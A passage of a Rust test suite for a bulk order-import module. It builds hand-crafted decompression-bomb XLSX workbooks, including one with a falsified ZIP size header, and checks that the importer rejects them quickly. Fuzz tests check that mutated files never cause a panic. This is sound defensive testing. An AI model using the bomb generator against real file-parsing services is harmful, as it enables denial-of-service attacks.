        // 12, 3, 13, 2, 14, 1: only 18 (a run of zeros) and 1, one bit each (1 → 0, 18 → 1).
        for i in 0..18 {
            b.put(u32::from(i == 2 || i == 17), 3);
        }
        let zeros = |b: &mut Bits, n: u32| {
            b.code(1, 1);
            b.put(n - 11, 7);
        };
        zeros(&mut b, 138);
        zeros(&mut b, 118); // literals 0..=255 unused
        b.code(0, 1); // 256 (end of block): 1 bit
        zeros(&mut b, 28); // lengths 257..=284 unused
        b.code(0, 1); // 285 (length 258): 1 bit
        b.code(0, 1); // distance code 0 (distance 1): 1 bit
        let left = run - 1;
        for _ in 0..left / 258 {
            b.code(1, 1); // 285
            b.code(0, 1); // distance 1
        }
        b.code(0, 1); // end of block
        b.put(1, 1); // last block
        b.put(1, 2);
        for _ in 0..left % 258 {
            b.fixed(u32::from(b' '));
        }
        for &c in tail {
            b.fixed(u32::from(c));
        }
        b.fixed(256);
        b.finish()
    }

    /// One step of the CRC-32 register (reflected, polynomial 0xEDB88320).
    fn crc_step(mut s: u32, byte: u8) -> u32 {
        s ^= u32::from(byte);
        for _ in 0..8 {
            s = if s & 1 == 1 {
                (s >> 1) ^ 0xEDB8_8320
            } else {
                s >> 1
            };
        }
        s
    }

    /// CRC-32 of `head`, `run` spaces and `tail`. A register step is affine over GF(2)
    /// (`s ↦ L·s ⊕ c`), so `run` steps are its `run`-th power, by repeated squaring.
    fn crc_run(head: &[u8], run: u64, tail: &[u8]) -> u32 {
        #[derive(Clone, Copy)]
        struct Affine {
            columns: [u32; 32],
            constant: u32,
        }
        impl Affine {
            fn linear(&self, s: u32) -> u32 {
                (0..32)
                    .filter(|i| s >> i & 1 == 1)
                    .fold(0, |acc, i| acc ^ self.columns[i])
            }
            /// `self` after `first`.
            fn after(&self, first: &Affine) -> Affine {
                Affine {
                    columns: first.columns.map(|c| self.linear(c)),
                    constant: self.linear(first.constant) ^ self.constant,
                }
            }
        }
        let mut s = head.iter().fold(!0u32, |s, &c| crc_step(s, c));
        let mut power = Affine {
            columns: std::array::from_fn(|i| crc_step(1 << i, 0)),
            constant: crc_step(0, b' '),
        };
        let mut n = run;
        while n > 0 {
            if n & 1 == 1 {
                s = power.linear(s) ^ power.constant;
            }
            power = power.after(&power);
            n >>= 1;
        }
        !tail.iter().fold(s, |s, &c| crc_step(s, c))
    }

    /// A ZIP archive holding one deflated entry.
    fn one_entry_zip(name: &str, data: &[u8], crc: u32, size: u64) -> Vec<u8> {
        let size = u32::try_from(size).unwrap();
        let fields = |z: &mut Vec<u8>| {
            for v in [20u16, 0, 8, 0, 0x21] {
                z.extend(v.to_le_bytes()); // version, flags, deflate, time, date
            }
            for v in [crc, data.len() as u32, size] {
                z.extend(v.to_le_bytes());
            }
            z.extend((name.len() as u16).to_le_bytes());
            z.extend(0u16.to_le_bytes()); // no extra field
        };
        let mut z = b"PK\x03\x04".to_vec();
        fields(&mut z);
        z.extend(name.as_bytes());
        z.extend(data);
        let directory = z.len() as u32;
        z.extend(b"PK\x01\x02");
        z.extend(20u16.to_le_bytes()); // made by
        fields(&mut z);
        z.extend([0u8; 10]); // comment length, disk, attributes
        z.extend(0u32.to_le_bytes()); // local header at 0
        z.extend(name.as_bytes());
        let directory_size = z.len() as u32 - directory;
        z.extend(b"PK\x05\x06\0\0\0\0\x01\0\x01\0");
        z.extend(directory_size.to_le_bytes());
        z.extend(directory.to_le_bytes());
        z.extend(0u16.to_le_bytes());
        z
    }

    /// The worksheet XML with `run` spaces inside `<sheetData>`, deflated, in a ZIP of its own.
    fn sheet_zip(run: u64) -> Vec<u8> {
        let (head, tail) = (HEAD.as_bytes(), TAIL.as_bytes());
        let size = head.len() as u64 + run + tail.len() as u64;
        let data = deflate_run(head, run, tail);
        one_entry_zip(SHEET, &data, crc_run(head, run, tail), size)
    }

    #[test]
    fn the_hand_made_deflate_and_crc_are_right() {
        let run = 258 * 5 + 100;
        let mut archive = ZipArchive::new(Cursor::new(sheet_zip(run))).unwrap();
        let mut text = String::new();
        archive
            .by_name(SHEET)
            .unwrap()
            .read_to_string(&mut text)
            .unwrap();
        assert_eq!(text, format!("{HEAD}{}{TAIL}", " ".repeat(run as usize)));
    }

    /// A real workbook whose first worksheet is a header row (`Sipariş No`), `size` bytes of
    /// XML (mostly spaces) and a data row, deflated about 1000:1.
    fn bomb(size: u64) -> Vec<u8> {
        let mut wb = rust_xlsxwriter::Workbook::new();
        wb.add_worksheet();
        let small = wb.save_to_buffer().unwrap();
        let mut source = ZipArchive::new(Cursor::new(small)).unwrap();
        let mut sheet = ZipArchive::new(Cursor::new(sheet_zip(
            size - (HEAD.len() + TAIL.len()) as u64,
        )))
        .unwrap();
        let mut out = ZipWriter::new(Cursor::new(Vec::new()));
        for i in 0..source.len() {
            let entry = source.by_index_raw(i).unwrap();
            if entry.name().unwrap() == SHEET {
                drop(entry);
                out.raw_copy_file(sheet.by_index_raw(0).unwrap()).unwrap();
            } else {
                out.raw_copy_file(entry).unwrap();
            }
        }
        out.finish().unwrap().into_inner()
    }

    /// Imports with `limits`, timing the import alone.
    fn refused(bytes: &[u8], limits: bulk::Limits) -> (kargojet_core::error::Error, Duration) {
        let options = ImportOptions {
            limits,
            ..ImportOptions::new(sender())
        };
        let started = Instant::now();
        let result = bulk::import(bytes, &options);
        let took = started.elapsed();
        (result.expect_err("the bomb was imported"), took)
    }

    /// The sizes the central directory declares for the worksheet: (compressed, expanded).
    fn declared(bytes: &[u8]) -> (u64, u64) {
        let archive = ZipArchive::new(Cursor::new(bytes)).unwrap();
        let i = archive.index_for_name(SHEET).unwrap();
        let e = archive.by_index_data(i).unwrap();
        (e.compressed_size(), e.size())
    }

    #[test]
    fn a_workbook_expanding_beyond_256_mib_is_refused_quickly() {
        let bytes = bomb(300 * MIB);
        let (compressed, size) = declared(&bytes);
        assert_eq!(size, 300 * MIB);
        assert!(bytes.len() < 2 * MIB as usize, "{} bytes", bytes.len());
        // Ratio checks off: the total alone refuses it.
        let limits = bulk::Limits {
            max_compression_ratio: u32::MAX,
            ..bulk::Limits::default()
        };
        let (e, took) = refused(&bytes, limits);
        assert_eq!(e.code(), Code::BulkTooLarge, "{e}");
        assert_eq!(e.field(), Some("file"));
        assert!(
            e.to_string().contains("268435456 bytes (256 MiB)"),
            "{e} ({compressed} compressed)"
        );
        assert!(took < Duration::from_secs(1), "took {took:?}");
        // With the default limits too.
        let (e, _) = refused(&bytes, bulk::Limits::default());
        assert_eq!(e.code(), Code::BulkTooLarge, "{e}");
    }

    #[test]
    fn an_entry_compressed_more_than_200_to_1_is_refused_and_the_limits_are_options() {
        let bytes = bomb(64 * MIB);
        let (compressed, size) = declared(&bytes);
        assert!(size > 200 * compressed, "{size} from {compressed}");
        let (e, took) = refused(&bytes, bulk::Limits::default());
        assert_eq!(e.code(), Code::BulkTooLarge, "{e}");
        let text = e.to_string();
        assert!(text.contains(SHEET) && text.contains("200:1"), "{text}");
        assert!(took < Duration::from_secs(1), "took {took:?}");
        // A lower total, configured, refuses the same file for its size.
        let limits = bulk::Limits {
            max_expanded_bytes: 16 * MIB,
            max_compression_ratio: 2000,
            ..bulk::Limits::default()
        };
        let (e, _) = refused(&bytes, limits);
        assert_eq!(e.code(), Code::BulkTooLarge, "{e}");
        assert!(e.to_string().contains("(16 MiB)"), "{e}");
        // Small parts may compress as well as they like: a 4 MiB sheet of spaces is read
        // (its header row has none of the required columns).
        let small = bomb(4 * MIB);
        let (compressed, size) = declared(&small);
        assert!(size > 200 * compressed);
        let e = bulk::import(&small, &ImportOptions::new(sender()))
            .err()
            .unwrap();
        assert_eq!(e.code(), Code::BulkMissingColumn, "{e}");
    }

    #[test]
    fn an_entry_that_understates_its_size_is_cut_off_at_the_declared_size() {
        // The limits trust the central directory; the `zip` reader calamine uses stops an
        // entry at its declared size. Declare 64 KiB for a 64 MiB sheet.
        let mut bytes = bomb(64 * MIB);
        let lie = 64u32 * 1024;
        let archive = ZipArchive::new(Cursor::new(&bytes)).unwrap();
        let e = archive
            .by_index_data(archive.index_for_name(SHEET).unwrap())
            .unwrap();
        let (local, central) = (e.header_start() as usize, e.central_header_start() as usize);
        drop(archive);
        // Uncompressed size: offset 22 of a local header, 24 of a central directory header.
        assert_eq!(&bytes[local..local + 4], b"PK\x03\x04");
        assert_eq!(&bytes[central..central + 4], b"PK\x01\x02");
        bytes[local + 22..local + 26].copy_from_slice(&lie.to_le_bytes());
        bytes[central + 24..central + 28].copy_from_slice(&lie.to_le_bytes());
        assert_eq!(declared(&bytes).1, u64::from(lie));
        // Read directly, the entry stops just past the declared size.
        let mut archive = ZipArchive::new(Cursor::new(&bytes)).unwrap();
        let mut read = Vec::new();
        let r = archive.by_name(SHEET).unwrap().read_to_end(&mut read);
        assert!(
            r.is_err() && read.len() <= lie as usize + 1,
            "{}",
            read.len()
        );
        // Imported, it is refused quickly.
        let (e, took) = refused(&bytes, bulk::Limits::default());
        assert_eq!(e.code(), Code::BulkUnreadableFile, "{e}");
        assert!(took < Duration::from_secs(1), "took {took:?}");
    }
}

#[test]
fn validation_progress_is_reported_row_by_row() {
    let seen = Mutex::new(Vec::new());
    let cb = |p: Progress| seen.lock().unwrap().push(p);
    let r = bulk::import_with_progress(&fixture("orders.csv"), &ImportOptions::new(sender()), &cb)
        .unwrap();
    let seen = seen.into_inner().unwrap();
    assert_eq!(seen.len(), r.total_rows() + 1);
    assert!(
        seen.iter()
            .all(|p| p.stage == Stage::Validating && p.total == 27)
    );
    let done: Vec<usize> = seen.iter().map(|p| p.done).collect();
    assert_eq!(done, (0..=27).collect::<Vec<_>>());
}

mod mutated_files {
    //! The fuzz targets' property on this machine's test run: fixtures with bytes flipped,
    //! cut or inserted never make the import panic.
    use super::*;
    use proptest::prelude::*;

    fn check(bytes: &[u8], format: SourceFormat) {
        let options = ImportOptions {
            format: Some(format),
            ..ImportOptions::new(sender())
        };
        match bulk::import(bytes, &options) {
            Ok(r) => {
                assert_eq!(r.total_rows(), r.accepted.len() + r.rejected.len());
                assert!(r.rejected.iter().all(|x| !x.errors.is_empty()));
                let report = match format {
                    SourceFormat::Csv => r.error_report_csv(),
                    SourceFormat::Xlsx => r.error_report_xlsx(),
                };
                if let Ok(report) = report {
                    let _ = bulk::import(&report, &options);
                }
            }
            Err(e) => assert!(!e.code().as_str().is_empty()),
        }
    }

    fn mutate(mut bytes: Vec<u8>, edits: &[(usize, u8, u8)]) -> Vec<u8> {
        for &(at, byte, kind) in edits {
            if bytes.is_empty() {
                break;
            }
            let i = at % bytes.len();
            match kind % 3 {
                0 => bytes[i] = byte,
                1 => {
                    bytes.remove(i);
                }
                _ => bytes.insert(i, byte),
            }
        }
        bytes
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(96))]
        #[test]
        fn mutated_csv_never_panics(edits in prop::collection::vec((any::<usize>(), any::<u8>(), any::<u8>()), 1..12)) {
            check(&mutate(fixture("orders.csv"), &edits), SourceFormat::Csv);
            check(&mutate(fixture("orders-1254.csv"), &edits), SourceFormat::Csv);
        }

        #[test]
        fn mutated_xlsx_never_panics(edits in prop::collection::vec((any::<usize>(), any::<u8>(), any::<u8>()), 1..6)) {
            check(&mutate(fixture("orders.xlsx"), &edits), SourceFormat::Xlsx);
        }
    }
}
